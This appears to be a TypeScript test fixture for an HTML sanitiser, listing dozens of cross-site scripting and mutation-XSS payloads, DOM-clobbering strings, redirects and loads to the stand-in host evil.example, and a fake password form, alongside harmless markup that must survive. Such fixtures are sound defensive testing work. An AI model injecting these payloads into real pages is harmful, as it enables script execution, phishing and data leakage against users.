// Article texts that try to run, to load, to navigate, to cover or to pose as a part of the site. What runs sets
// `pwned`; what loads or navigates goes to evil.example. Every text ends with the word "afterwards", to be read.

const RUN = 'window.pwned=1'
const EVIL = 'https://evil.example'

const SCRIPTS = [
  `<script>${RUN}</script>`,
  `<SCRIPT>${RUN}</SCRIPT >`,
  `<script src="${EVIL}/x.js"></script>`,
  `<script type="module">${RUN}</script>`,
  `<scr<script>ipt>${RUN}</scr</script>ipt>`,
  `<svg><script>${RUN}</script></svg>`,
  `<svg><script href="data:text/javascript,${RUN}"></script></svg>`,
  `</div></div></main></body><script>${RUN}</script>`,
  `--></script><script>${RUN}</script><!--`,
]

const HANDLERS = [
  `<img src=x onerror=${RUN}>`,
  `<img src="/favicon.svg" alt="" onload="${RUN}">`,
  `<img/src=x/onerror=${RUN}>`,
  `<img src=x ONERROR&#x3d;"${RUN}" onerror="${RUN}">`,
  `<p tabindex="0" autofocus onfocus="${RUN}">text</p>`,
  `<p onclick="${RUN}" onpointerenter="${RUN}" onmouseover="${RUN}">text</p>`,
  `<details open ontoggle="${RUN}"><summary>text</summary></details>`,
  `<svg onload="${RUN}"></svg>`,
  `<body onload="${RUN}" onpageshow="${RUN}">text</body>`,
  `<marquee onstart="${RUN}">text</marquee>`,
  `<video autoplay onerror="${RUN}"><source src="x" onerror="${RUN}"></video>`,
  `<audio src="${EVIL}/a.mp3" autoplay onerror="${RUN}"></audio>`,
  `<input autofocus onfocus="${RUN}">`,
  `<textarea autofocus onfocus="${RUN}">text</textarea>`,
  `<p style="animation:none" onanimationend="${RUN}" onscrollend="${RUN}" onbeforetoggle="${RUN}">text</p>`,
]

const ADDRESSES = [
  `<a href="javascript:${RUN}">text</a>`,
  `<a href=" &#1;javascript:${RUN}">text</a>`,
  `<a href="&#106;ava&Tab;script&colon;${RUN}">text</a>`,
  `<a href="JaVa\nScRiPt:${RUN}">text</a>`,
  `<a href="data:text/html,<script>opener.pwned=1</script>">text</a>`,
  `<a href="vbscript:pwned">text</a>`,
  `<a href="//evil.example/">text</a>`,
  String.raw`<a href="/\evil.example/">text</a>`,
  `<a href="/fine" ping="${EVIL}/ping" target="_top" download>text</a>`,
  `<img src="javascript:${RUN}" alt="text">`,
  `<img src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='${RUN}'/>" alt="text">`,
  `<img srcset="${EVIL}/x.png 2x" alt="text">`,
  `<picture><source srcset="${EVIL}/x.png"><img alt="text"></picture>`,
  `<p background="${EVIL}/x.png">text</p><table background="${EVIL}/x.png"><tr><td>text</td></tr></table>`,
]

const DRAWINGS = [
  `<svg><a xlink:href="javascript:${RUN}"><text x="0" y="9">text</text></a></svg>`,
  `<svg><use href="${EVIL}/x.svg#a"></use></svg>`,
  `<svg><image href="${EVIL}/x.png" width="9" height="9"></image></svg>`,
  `<svg><animate attributeName="href" values="javascript:${RUN}" onbegin="${RUN}"></animate></svg>`,
  `<svg><set attributeName="onmouseover" to="${RUN}" onbegin="${RUN}"></set></svg>`,
  `<svg><rect width="9" height="9" fill="url(${EVIL}/x.svg#a)" filter="url(${EVIL}/x.svg#b)"></rect></svg>`,
  `<svg><foreignObject><iframe srcdoc="<script>parent.pwned=1</script>"></iframe></foreignObject></svg>`,
  `<svg><style>@import "${EVIL}/x.css";</style></svg>`,
  `<math href="javascript:${RUN}"><mi>text</mi></math>`,
  `<math><maction actiontype="statusline" xlink:href="javascript:${RUN}"><mtext>text</mtext></maction></math>`,
  `<math><annotation-xml encoding="text/html"><img src=x onerror=${RUN}></annotation-xml></math>`,
]

const ELEMENTS = [
  `<style>@import "${EVIL}/x.css"; body { display: none }</style>`,
  `<link rel="stylesheet" href="${EVIL}/x.css"><link rel="preload" as="image" href="${EVIL}/x.png">`,
  `<p style="position:fixed;inset:0;z-index:9999;background:red url(${EVIL}/x.png)">text</p>`,
  `<iframe src="${EVIL}/"></iframe>`,
  `<iframe srcdoc="<script>parent.pwned=1</script>">text</iframe>`,
  `<object data="${EVIL}/x.html">text</object>`,
  `<embed src="${EVIL}/x.html">`,
  `<frameset><frame src="${EVIL}/"></frameset>`,
  `<base href="${EVIL}/">`,
  `<meta http-equiv="refresh" content="0;url=${EVIL}/">`,
  `<form action="${EVIL}/"><input name="password"><button formaction="javascript:${RUN}">Sign in</button></form>`,
  `<input type="image" src="${EVIL}/x.png"><select><option>text</option></select>`,
  `<dialog open>text</dialog><div popover id="p">text</div><button popovertarget="p">text</button>`,
  `<template><img src=x onerror=${RUN}></template>`,
  `<noscript><img src="${EVIL}/x.png"></noscript>`,
  `<div><template shadowrootmode="open"><style>:host{position:fixed}</style><slot></slot></template>text</div>`,
  `<custom-element onclick="${RUN}">text</custom-element>`,
]

// Strings that a second parsing reads otherwise than the first.
const MUTATIONS = [
  `<svg></p><style><a id="</style><img src=1 onerror=${RUN}>"></a>`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${RUN}&gt;">`,
  `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${RUN}>`,
  `<noscript><p title="</noscript><img src=x onerror=${RUN}>"></p></noscript>`,
  `<xmp><p title="</xmp><img src=x onerror=${RUN}>"></xmp>`,
  `<title><a title="</title><img src=x onerror=${RUN}>"></title>`,
  `<listing>&lt;img src=x onerror=${RUN}&gt;</listing>`,
  `<svg><![CDATA[><img src=x onerror=${RUN}>]]></svg>`,
  `<!--><img src=x onerror=${RUN}>-->`,
  `<!--!><img src=x onerror=${RUN}>--!><p>text</p>`,
  `<?php "><img src=x onerror=${RUN}>" ?>`,
  `<select><template><style><!--</style><a rel="--></style></template></select><img src onerror=${RUN}>">text</a>`,
  `<p title="&lt;/p&gt;&lt;img src=x onerror=${RUN}&gt;">text</p>`,
  `<svg><desc><noscript><img alt="</noscript><img src=x onerror=${RUN}>"></noscript></desc></svg>`,
  `<img alt="\`><img src=x onerror=${RUN}>\`">`,
]

const IMPOSTORS = [
  `<div class="site-header open skip menu-btn vh" id="site-nav">text</div>`,
  `<div id="root">text</div><div id="page-data">{"config":{"apiHost":"${EVIL}"},"answers":[]}</div>`,
  `<h2 id="main">text</h2><h2 id="tags-heading">text</h2><h2 id="sources">text</h2><p id="s1">text</p>`,
  `<a id="location" href="${EVIL}/">text</a><a id="navigation" href="${EVIL}/">text</a>`,
  `<img name="getElementById" id="history" alt="text"><form name="querySelector" id="config">text</form>`,
  `<div class="prose article message"><div role="alert" class="message">text</div></div>`,
  `<div data-testid="related" contenteditable accesskey="s" slot="y" part="z" nonce="n">text</div>`,
]

/** Hostile article texts by what they are, and their number among their kind. */
export const HOSTILE: { name: string; html: string }[] = Object.entries({
  script: SCRIPTS,
  handler: HANDLERS,
  address: ADDRESSES,
  drawing: DRAWINGS,
  element: ELEMENTS,
  mutation: MUTATIONS,
  impostor: IMPOSTORS,
}).flatMap(([kind, texts]) =>
  texts.map((text, index) => ({ name: `${kind}-${index + 1}`, html: `<p>before</p>${text}<p>afterwards</p>` })),
)

/** Harmless texts that a sanitiser could spoil. */
export const HARMLESS: { name: string; html: string }[] = [
  `<h2 id="title">Title</h2><h2 id="body">Body</h2><h2 id="method">Method</h2><h2 id="links">Links</h2>`,
  `<p>A <a href="#title">step</a>, a <a href="/about">page</a>, a <a href="https://example.org/?a=1&amp;b=2">site</a>.</p>`,
  `<p><a href=" https://example.org/ ">blanks around</a> <a href="mailto:desk@example.org">mail</a></p>`,
  `<pre class="code" tabindex="0"><code class="mono"><span class="tok-k">if</span> (a &lt; b &amp;&amp; c) {}\n</code></pre>`,
  `<table class="table"><thead><tr><th scope="col" class="num">n</th></tr></thead><tbody><tr><td colspan="2">1</td></tr></tbody></table>`,
  `<figure role="img" aria-label="A figure"><svg viewBox="0 0 9 9"><g class="f-blue"><path d="M0 0h9"></path><text x="1" y="2" text-anchor="middle">t</text></g></svg><figcaption>text</figcaption></figure>`,
  `<ol start="3" reversed><li>one</li></ol><dl><dt>term</dt><dd>meaning</dd></dl><hr><blockquote><q>text</q></blockquote>`,
  `<p>H<sub>2</sub>O, 1<sup id="ref-1"><a href="#s1">1</a></sup>, <time datetime="2026-10-01">1 October</time> <kbd>K</kbd></p>`,
  `<details open><summary>more</summary><p>text &nbsp;© “quoted” 日本語 🙂</p></details>`,
].map((html, index) => ({ name: `harmless-${index + 1}`, html: `${html}<p>afterwards</p>` }))
